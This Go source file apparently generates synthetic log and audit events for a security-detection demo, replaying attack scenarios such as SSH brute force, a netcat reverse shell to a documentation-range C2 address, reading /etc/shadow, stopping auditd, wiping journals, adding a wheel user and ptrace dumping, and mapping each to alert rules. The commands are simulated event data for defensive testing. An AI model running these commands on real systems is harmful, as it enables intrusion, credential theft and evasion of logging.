package demo

import (
	"fmt"
	"time"
)

// Scenario is an attack the fleet replays, and the Base Rule Set rules
// that alert on it.
type Scenario struct {
	Name string
	// Role is the role of the host it plays on (the first such host, or
	// host 0 when the fleet has none).
	Role string
	// At is when it starts, counted from each replay.
	At time.Duration
	// Rules are the names of the Base Rule Set rules that raise an alert.
	Rules []string
}

// Scenarios returns the scenarios every replay plays, in start order.
// All of them end within the first 10 s of a replay.
func Scenarios() []Scenario {
	return []Scenario{
		{Name: "ssh brute force", Role: RoleBastion, At: 1000 * time.Millisecond,
			Rules: []string{"User Activity: Login Failures", "User Activity: Repeated Login Failures"}},
		{Name: "sudo use", Role: RoleBastion, At: 2500 * time.Millisecond, Rules: []string{"User: Sudo Usage"}},
		{Name: "netcat reverse shell", Role: RoleWeb, At: 4000 * time.Millisecond, Rules: []string{"Process: Netcat Detected"}},
		{Name: "web server outbound connection", Role: RoleWeb, At: 5000 * time.Millisecond,
			Rules: []string{"Network: Outbound Connection from Web Server"}},
		{Name: "new user added", Role: RoleDB, At: 6000 * time.Millisecond,
			Rules: []string{"User: New User Added", "User: Account Management Commands"}},
		{Name: "/etc/passwd change", Role: RoleDB, At: 6300 * time.Millisecond, Rules: []string{"File: Account File Changes"}},
		{Name: "ptrace", Role: RoleDB, At: 8000 * time.Millisecond, Rules: []string{"Process: Ptrace Usage"}},
	}
}

// scenarioSpan bounds the replay: every scenario event lies within it.
const scenarioSpan = 10_000

// bruteUsers are the accounts the brute force tries; ubuntu exists.
var bruteUsers = []string{"admin", "oracle", "test", "ubuntu", "postgres", "git", "deploy", "root"}

// sudoCommands are what the admin runs through sudo, one per replay, so
// that each replay within the hour raises a new alert.
var sudoCommands = [][]string{
	{"sudo", "cat", "/etc/shadow"},
	{"sudo", "-i"},
	{"sudo", "tcpdump", "-i", "eth0", "-w", "/home/ubuntu/cap.pcap"},
	{"sudo", "systemctl", "stop", "auditd"},
	{"sudo", "vim", "/etc/ssh/sshd_config"},
	{"sudo", "journalctl", "--vacuum-time=1s"},
}

// newUsers are the accounts the intruder adds, one per replay.
var newUsers = []string{"svc-backup", "sysadm", "nagios2", "support", "deploy2", "backup-agent"}

// scenarios adds the scenario events of second sec that play on this
// host. A replay's events depend on the fleet, the host and the replay
// number only, so any second of it can be built on its own.
func (g *gen) scenarios(sec int64) {
	k := floorDiv(sec*1000, g.f.everyMs)
	inCycle := sec*1000 - k*g.f.everyMs
	if inCycle >= scenarioSpan {
		return
	}
	cycleBase := g.base - inCycle
	all := g.replay(int(k), cycleBase)
	for _, p := range all {
		rel := p.ts // ms into the replay
		if rel >= inCycle && rel < inCycle+1000 {
			g.evs = append(g.evs, pending{ts: cycleBase + rel, typ: p.typ, body: p.body})
		}
	}
}

// replay returns replay k's events on this host, ts counting from the
// replay's start, cycleBase (epoch ms).
func (g *gen) replay(k int, cycleBase int64) []pending {
	var out []pending
	at := func(d time.Duration, typ string, body fields) {
		out = append(out, pending{ts: d.Milliseconds(), typ: typ, body: body})
	}
	// Attacker addresses from the documentation ranges (RFC 5737), a new
	// one per replay so that every replay raises new alerts.
	attacker := fmt.Sprintf("203.0.113.%d", 17+k%200)
	c2 := fmt.Sprintf("198.51.100.%d", 23+k%200)
	sc := Scenarios()
	on := func(s Scenario) bool { return g.f.hostFor(s.Role) == g.i }
	logAt := func(d time.Duration) int64 { return cycleBase + d.Milliseconds() }

	if s := sc[0]; on(s) {
		for j, user := range bruteUsers {
			d := s.At + time.Duration(j)*600*time.Millisecond
			pid := 52000 + 37*k%5000 + j*3
			port := 40000 + (k*97+j*131)%20000
			extra := fields{"user": user, "src_ip": attacker, "src_port": port}
			if user == "ubuntu" {
				at(d, "host", g.logSig(logAt(d), 5716, 5, []string{"syslog", "sshd", "authentication_failed"}, "sshd: authentication failed.",
					"sshd", pid, fmt.Sprintf("Failed password for %s from %s port %d ssh2", user, attacker, port), extra))
				continue
			}
			at(d, "host", g.logSig(logAt(d), 5710, 5, []string{"syslog", "sshd", "invalid_login", "authentication_failed"},
				"sshd: Attempt to login using a non-existent user", "sshd", pid,
				fmt.Sprintf("Invalid user %s from %s port %d", user, attacker, port), extra))
		}
	}
	if s := sc[1]; on(s) {
		argv := sudoCommands[k%len(sudoCommands)]
		at(s.At, "audit", g.execve(proc{
			command: "sudo", exe: "/usr/bin/sudo", argv: argv, user: "root", auser: "ubuntu", auid: 1000, tty: "pts/0",
			cwd: "/home/ubuntu", pid: 31000 + k%1000, ppid: g.p.sshd + 400, parentExe: "/usr/bin/bash",
		}))
	}
	if s := sc[2]; on(s) {
		pid := 33000 + k%1000
		at(s.At, "audit", g.execve(proc{
			command: "nc", exe: "/usr/bin/nc.traditional", argv: []string{"nc", "-e", "/bin/bash", c2, "4444"},
			user: "www-data", uid: 33, cwd: "/var/www/app/public/uploads", pid: pid, ppid: g.p.phpfpm + 2,
			parentExe: "/usr/sbin/php-fpm8.1",
		}))
		at(s.At+20*time.Millisecond, "audit", g.connect("nc", "/usr/bin/nc.traditional", "www-data", 33, pid, c2, 4444, "tcp"))
	}
	if s := sc[3]; on(s) {
		at(s.At, "audit", g.connect("php-fpm8.1", "/usr/sbin/php-fpm8.1", "www-data", 33, g.p.phpfpm+3, c2, 8080, "tcp"))
	}
	user := newUsers[k%len(newUsers)]
	uid := 1001 + k%50
	if s := sc[4]; on(s) {
		pid := 34000 + k%1000
		at(s.At, "audit", g.execve(proc{
			command: "useradd", exe: "/usr/sbin/useradd", argv: []string{"useradd", "-m", "-s", "/bin/bash", "-G", "wheel", user},
			user: "root", auser: "ubuntu", auid: 1000, tty: "pts/1", cwd: "/home/ubuntu", pid: pid, ppid: pid - 1,
			parentExe: "/usr/bin/sudo",
		}))
		d := s.At + 150*time.Millisecond
		at(d, "host", g.logSig(logAt(d), 5901, 8, []string{"adduser", "syslog"}, "New group added to the system.",
			"useradd", pid, fmt.Sprintf("new group: name=%s, GID=%d", user, uid), nil))
		d += 10 * time.Millisecond
		at(d, "host", g.logSig(logAt(d), 5902, 8, []string{"adduser", "syslog"}, "New user added to the system.",
			"useradd", pid, fmt.Sprintf("new user: name=%s, UID=%d, GID=%d, home=/home/%s, shell=/bin/bash, from=/dev/pts/1", user, uid, uid, user),
			fields{"dst_user": user}))
	}
	if s := sc[5]; on(s) {
		pid := 34000 + k%1000
		argv := []string{"useradd", "-m", "-s", "/bin/bash", "-G", "wheel", user}
		for j, name := range []string{"/etc/passwd-", "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow"} {
			at(s.At+time.Duration(j*5)*time.Millisecond, "file", g.fileEv("modify", name, "useradd", "/usr/sbin/useradd", "root", 0, pid, argv))
		}
	}
	if s := sc[6]; on(s) {
		pid := 35000 + k%1000
		at(s.At, "audit", g.execve(proc{
			command: "gdb", exe: "/usr/bin/gdb", argv: []string{"gdb", "-p", fmt.Sprint(g.p.postgres), "-batch", "-ex", "generate-core-file"},
			user: "root", auser: "ubuntu", auid: 1000, tty: "pts/1", cwd: "/root", pid: pid, ppid: pid - 1, parentExe: "/usr/bin/sudo",
		}))
		at(s.At+120*time.Millisecond, "audit", g.syscallEv("ptrace", "gdb", "/usr/bin/gdb", "root", 0, pid, "ubuntu", 1000, "pts/1"))
	}
	return out
}
